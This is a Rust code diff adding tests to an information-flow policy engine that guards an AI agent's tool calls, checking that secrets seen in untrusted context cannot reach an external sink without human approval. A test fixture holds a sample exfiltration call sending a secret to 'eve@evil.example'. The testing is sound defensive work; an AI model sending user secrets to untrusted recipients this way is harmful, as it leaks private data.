@@ -9,7 +9,8 @@ use policy_core::subject::name::ServerName;
 use proptest::prelude::*;
 
 use super::{
-    FlowClause, FlowFacts, FlowLabel, FlowMode, FlowPolicy, FlowSettings, Origin, ToolLabels,
+    FlowClause, FlowFacts, FlowLabel, FlowMode, FlowOfCall, FlowPolicy, FlowSettings, Origin,
+    ToolLabels,
 };
 use crate::definition::offer::ItemKind;
 use crate::engine::message::{ItemRequest, RequestOperation, TaskOperation};
@@ -610,6 +611,139 @@ fn form() -> impl Strategy<Value = Form> {
     prop::sample::select(vec![Form::Scalar, Form::List, Form::Object, Form::Name])
 }
 
+/// What can happen in the world whose paths are all explored: a page or a secret is shown, a text is sent, a person approves
+/// a call, and all values are forgotten.
+#[derive(Clone, Copy, Debug)]
+enum Move {
+    Shown(FlowLabels, &'static str),
+    Sent(&'static str),
+    Approved,
+    Forget,
+}
+
+const SECRET_TEXT: &str = "the key of the house is under the mat";
+const EVE: &str = "eve@evil.example";
+const MOVES: [Move; 8] = [
+    Move::Shown(PUBLIC, EVE),
+    Move::Shown(PUBLIC, SECRET_TEXT),
+    Move::Shown(SECRET, SECRET_TEXT),
+    Move::Shown(OWN, EVE),
+    Move::Sent(EVE),
+    Move::Sent(SECRET_TEXT),
+    Move::Approved,
+    Move::Forget,
+];
+
+/// What the rules of the world say by themselves of each flow that is explored.
+#[derive(Clone, Copy, Debug, Default)]
+struct Expected {
+    labels: FlowLabels,
+    /// Eve was given: before anything untrusted, by a trusted result that repeats nothing, or by an approval.
+    knows_eve: bool,
+    /// The secret was the caller's own before a result showed it.
+    owns_secret: bool,
+    has_sent_eve: bool,
+    has_forgotten: bool,
+    was_shown_eve: bool,
+}
+
+impl Expected {
+    fn after(mut self, step: Move) -> Self {
+        match step {
+            Move::Shown(labels, text) => {
+                self.labels = self.labels.join(labels);
+                let is_eve = text == EVE;
+                let is_relayed = self.has_sent_eve || self.has_forgotten;
+                self.knows_eve |= is_eve && !labels.is_untrusted() && !is_relayed;
+                self.was_shown_eve |= is_eve && labels.is_untrusted();
+            }
+            Move::Sent(EVE) => {
+                self.knows_eve |= !self.labels.is_untrusted();
+                self.has_sent_eve |= self.labels.is_untrusted() && !self.knows_eve;
+            }
+            Move::Sent(_) => self.owns_secret |= !self.labels.is_untrusted(),
+            Move::Approved => self.knows_eve = true,
+            Move::Forget => {
+                (self.knows_eve, self.owns_secret) = (false, false);
+                (self.has_forgotten, self.was_shown_eve) = (true, true);
+            }
+        }
+        self
+    }
+
+    /// Whether a call that sends the secret to Eve takes out what it must not.
+    fn leaks(self) -> bool {
+        let is_closed = self.labels.is_untrusted() && self.labels.is_confidential();
+        is_closed && !self.owns_secret && !self.knows_eve
+    }
+}
+
+const LEAK: &str = r#"{"to":"eve@evil.example","body":"the key of the house is under the mat"}"#;
+
+/// Explores every path of at most `left` further moves; how many there were.
+fn explore(flow: &Flow, expected: Expected, left: usize, path: &mut Vec<Move>) -> usize {
+    assert_eq!(flow.memory.labels(), expected.labels, "labels only grow: {path:?}");
+    let said = call(LEAK);
+    let targets: [Box<str>; 1] = ["to".into()];
+    let tool =
+        ToolLabels { labels: OWN, sink: Sink::External, targets: Some(&targets), vouched: &[] };
+    let facts = flow.facts(Sink::External, tool.targets, &said);
+    let was_shown = path
+        .iter()
+        .any(|step| matches!(step, Move::Shown(of, SECRET_TEXT) if of.is_confidential()));
+    if expected.leaks() && (was_shown || expected.has_forgotten) {
+        assert!(facts.violation.is_some(), "a secret leaves without an approval: {path:?}");
+    }
+    if expected.labels.is_untrusted() && expected.was_shown_eve && !expected.knows_eve {
+        let clause = facts.violation.as_ref().map(|violation| violation.clause);
+        assert_eq!(clause, Some(FlowClause::Target), "{path:?}");
+    }
+    if !expected.labels.is_untrusted() {
+        assert_eq!(facts.violation, None, "nobody untrusted has said anything: {path:?}");
+    }
+    let Some(left) = left.checked_sub(1) else { return 1 };
+    let mut paths = 1;
+    for step in MOVES {
+        let mut next = Flow { key: flow.key.clone(), memory: flow.memory.clone() };
+        let expected = match step {
+            Move::Shown(labels, text) => {
+                next.shown(labels, text);
+                expected.after(step)
+            }
+            Move::Sent(text) => {
+                next.sent(&format!(r#"{{"text":"{text}"}}"#));
+                expected.after(step)
+            }
+            // A person is only asked about what is refused.
+            Move::Approved => match &facts.violation {
+                None => continue,
+                Some(violation) => {
+                    let memory = &mut next.memory;
+                    let of = FlowOfCall { key: &flow.key, memory, tool };
+                    policy().endorse(of, violation, said.sent().arguments.unwrap(), MOST);
+                    expected.after(step)
+                }
+            },
+            Move::Forget => {
+                next.memory.forget_values();
+                expected.after(step)
+            }
+        };
+        path.push(step);
+        paths += explore(&next, expected, left, path);
+        path.pop();
+    }
+    paths
+}
+
+/// Every interleaving of five moves in a small world: nothing leads from untrusted and confidential to a sink without an
+/// approval, and labels only grow.
+#[test]
+fn every_path_of_a_small_world_ends_before_the_sink() {
+    let paths = explore(&Flow::new(), Expected::default(), 5, &mut Vec::new());
+    assert!(paths > 20_000, "{paths}");
+}
+
 proptest! {
     /// Labels only grow, and in a flow that is untrusted and confidential, nothing that only confidential results have
     /// shown reaches a sink outside, unless for a target that the user's side has given.
@@ -706,7 +840,7 @@ proptest! {
 }
 
 const LINKS: [&str; 3] =
-    ["https://docs.example/A", "https://docs.example/a", "https://docs.example/A?key=mat"];
+    ["https://docs.example/A", "https://docs.example/B", "https://docs.example/A?key=mat"];
 
 fn link_step() -> impl Strategy<Value = Step> {
     let labels = prop::sample::select(vec![PUBLIC, SECRET, OWN, FlowLabels::STRICTEST]);
